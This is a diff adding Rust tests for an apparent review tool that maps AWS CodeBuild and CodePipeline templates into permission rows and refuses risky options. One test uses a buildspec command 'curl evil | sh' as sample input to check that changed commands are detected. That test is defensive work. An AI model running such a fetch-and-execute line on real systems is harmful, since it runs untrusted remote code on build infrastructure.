@@ -144,3 +144,80 @@ fn a_safety_switch_is_refused_on_and_accepted_off() {
     assert!(on.unreviewed.iter().any(|u| u.why.contains("lockout safety check")), "{:?}", on.unreviewed);
     assert!(key(false).unreviewed.is_empty());
 }
+
+fn project(extra: Value) -> Value {
+    let mut properties = json!({
+        "Name": "p", "ServiceRole": {"Fn::GetAtt": ["R", "Arn"]},
+        "Source": {"Type": "CODEPIPELINE", "BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n"},
+        "Artifacts": {"Type": "CODEPIPELINE"},
+        "Environment": {"Type": "LINUX_CONTAINER", "Image": "aws/codebuild/amazonlinux-x86_64-standard:5.0",
+            "ComputeType": "BUILD_GENERAL1_LARGE", "EnvironmentVariables": [{"Name": "STAGE", "Value": "dev"}]}
+    });
+    for (k, v) in extra.as_object().unwrap() {
+        properties[k] = v.clone();
+    }
+    json!({"P": {"Type": "AWS::CodeBuild::Project", "Properties": properties}})
+}
+
+#[test]
+fn a_build_projects_role_commands_and_environment_are_rows() {
+    let r = one(project(json!({})));
+    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
+    let runs_as = r.rows.iter().find(|row| row.action == "(runs as)").unwrap_or_else(|| panic!("{:#?}", r.rows));
+    assert_eq!((runs_as.principal.as_str(), runs_as.resource.as_str()), ("project p", "${R.Arn}"));
+    let commands = |r: &Review| r.rows.iter().find(|row| row.action == "(runs commands)").cloned().unwrap();
+    let before = commands(&r);
+    assert!(before.resource.starts_with("buildspec sha256:") && before.condition.contains("STAGE=dev"), "{before:?}");
+    // Another command, another variable, privileged mode: each a row the old one does not cover.
+    let spec = json!({"Type": "CODEPIPELINE", "BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl evil | sh\n"});
+    assert_ne!(commands(&one(project(json!({"Source": spec})))).resource, before.resource);
+    let privileged = json!({"Type": "LINUX_CONTAINER", "Image": "x", "ComputeType": "c", "PrivilegedMode": true});
+    assert!(commands(&one(project(json!({"Environment": privileged})))).condition.contains("privileged true"));
+}
+
+#[test]
+fn builds_that_run_outside_the_pipeline_or_in_public_are_refused() {
+    for (extra, why) in [
+        (json!({"Triggers": {"Webhook": true}}), "webhook"),
+        (json!({"Visibility": "PUBLIC_READ"}), "PRIVATE"),
+        (json!({"SecondarySources": [{"Type": "S3", "Location": "b/k"}]}), "secondary source"),
+        (json!({"VpcConfig": {"VpcId": "v"}}), "VPC"),
+    ] {
+        let r = one(project(extra.clone()));
+        assert!(r.unreviewed.iter().any(|u| u.why.contains(why)), "{extra}: {:?}", r.unreviewed);
+    }
+    assert!(one(project(json!({"Visibility": "PRIVATE"}))).unreviewed.is_empty());
+}
+
+#[test]
+fn a_pipelines_trigger_steps_and_gates_are_rows() {
+    let stages = |condition: Value| {
+        json!([{"Name": "Source", "Actions": [{"Name": "Src", "ActionTypeId": {"Category": "Source", "Owner": "AWS",
+            "Provider": "CodeStarSourceConnection", "Version": "1"}, "Configuration": {"BranchName": "main"}}]},
+            {"Name": "Approve", "BeforeEntry": condition, "Actions": [{"Name": "A", "ActionTypeId": {"Category": "Approval",
+            "Owner": "AWS", "Provider": "Manual", "Version": "1"}}]}])
+    };
+    let pipeline = |branch: &str, condition: Value| {
+        json!({"L": {"Type": "AWS::CodePipeline::Pipeline", "Properties": {"Name": "pl", "RoleArn": {"Fn::GetAtt": ["R", "Arn"]},
+            "Stages": stages(condition), "Triggers": [{"ProviderType": "CodeStarSourceConnection",
+            "GitConfiguration": {"SourceActionName": "Src", "Push": [{"Branches": {"Includes": [branch]}}]}}]}}})
+    };
+    let gated = json!({"Conditions": [{"Result": "SKIP", "Rules": [{"Name": "r"}]}]});
+    let r = one(pipeline("main", gated.clone()));
+    assert!(r.unreviewed.is_empty(), "{:?}", r.unreviewed);
+    let has = |r: &Review, action: &str, text: &str| {
+        r.rows.iter().any(|row| row.action == action && format!("{} {}", row.resource, row.condition).contains(text))
+    };
+    assert!(has(&r, "(starts on push)", "to main of source action Src"), "{:#?}", r.rows);
+    assert!(has(&r, "(runs action)", "Approval Manual A"), "{:#?}", r.rows);
+    assert!(has(&r, "(runs action)", "before entry"), "{:#?}", r.rows);
+    // Another branch, or an approval that is never skipped or always skipped, changes the rows.
+    let other = one(pipeline("dev", gated.clone()));
+    assert!(other.rows.iter().any(|row| !r.rows.contains(row)));
+    let ungated = one(pipeline("main", Value::Null));
+    assert!(ungated.rows.iter().any(|row| !r.rows.contains(row)));
+    // Artifact stores in other regions are refused.
+    let mut cross = pipeline("main", gated);
+    cross["L"]["Properties"]["ArtifactStores"] = json!([{"Region": "eu-west-1"}]);
+    assert!(one(cross).unreviewed.iter().any(|u| u.why.contains("other regions")));
+}
